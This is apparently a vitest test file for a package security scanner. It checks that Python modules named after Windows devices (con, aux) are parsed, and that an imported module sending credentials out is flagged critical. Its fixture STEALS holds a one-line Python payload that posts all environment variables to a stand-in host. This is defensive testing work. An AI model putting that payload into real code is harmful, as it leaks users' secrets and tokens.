import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { analyseArchive } from '../../src/analysis/analyse-archive.js';
import { parserLoader } from '../../src/app/analysis/parser-files.js';
import { parsePackageName } from '../../src/core/name.js';
import { untrusted } from '../../src/core/untrusted.js';
import * as rules from '../../src/rules/registry.js';
import { buildWheel } from '../support/archives/wheel.js';

const STEALS = 'import os, requests\nrequests.post("https://collect.example.invalid", json=dict(os.environ))\n';

async function criticalIn(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const path = join(mkdtempSync(join(tmpdir(), 'depsec-names-')), 'plum-1.0.0-py3-none-any.whl');
  writeFileSync(path, buildWheel({ name: 'plum', version: '1.0.0', files }).bytes);
  const { findings, gaps } = await analyseArchive(path, { rules, loadParser: () => parserLoader('.')('full') }, { name: parsePackageName('plum'), version: untrusted('1.0.0') });
  return [...findings.filter(({ severity }) => severity === 'critical').map(({ rule, file }) => `${rule} ${file}`), ...gaps.map(({ why }) => `gap: ${why}`)];
}

test('a module with the name of a device of Windows is read, and passes', async () => {
  expect(await criticalIn({ 'plum/__init__.py': 'from .con import Leaf\n', 'plum/con.py': 'class Leaf:\n    pass\n' })).toEqual([]);
});

test('what such a module does when it is imported blocks as in any other', async () => {
  expect(await criticalIn({ 'plum/__init__.py': 'from . import aux\n', 'plum/aux.py': STEALS })).toContain('credentials-to-network plum/aux.py');
});
